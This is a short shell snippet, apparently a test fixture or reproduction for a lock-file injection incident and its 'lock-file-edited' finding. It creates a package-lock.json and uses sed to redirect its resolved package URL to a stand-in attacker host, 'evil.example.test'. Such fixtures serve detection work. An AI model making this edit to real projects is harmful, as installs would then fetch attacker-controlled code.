# incident: lock-file injection (2019): a line of the lock file names another server
# finding: lock-file-edited
echo '{"resolved": "https://registry.example.test/a.tgz"}' > package-lock.json
sed -i 's#registry.example.test#evil.example.test#' package-lock.json
